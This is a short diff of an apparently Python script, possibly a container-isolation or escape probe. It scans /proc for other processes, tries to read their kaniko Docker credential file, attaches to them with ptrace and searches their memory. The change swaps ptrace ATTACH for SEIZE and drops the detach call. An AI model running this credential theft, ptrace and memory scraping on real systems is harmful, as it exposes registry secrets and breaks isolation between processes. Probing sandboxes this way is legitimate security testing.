@@ -52,9 +52,8 @@ for pid in [p for p in os.listdir("/proc") if p.isdigit() and p != own]:
             hits.append(kind)
     if found(look(f"/proc/{pid}/root/kaniko/.docker/config.json")):
         hits.append("root")
-    if libc.ptrace(16, int(pid), 0, 0) == 0:
+    if libc.ptrace(0x4206, int(pid), 0, 0) == 0:  # SEIZE: ATTACH would leave the engine stopped when this ends
         hits.append("ptrace of " + look(f"/proc/{pid}/comm").decode().strip())
-        libc.ptrace(17, int(pid), 0, 0)
     hits.extend("memory" for data in memory(pid) if found(data))
 os.makedirs("/escape", exist_ok=True)
 try:
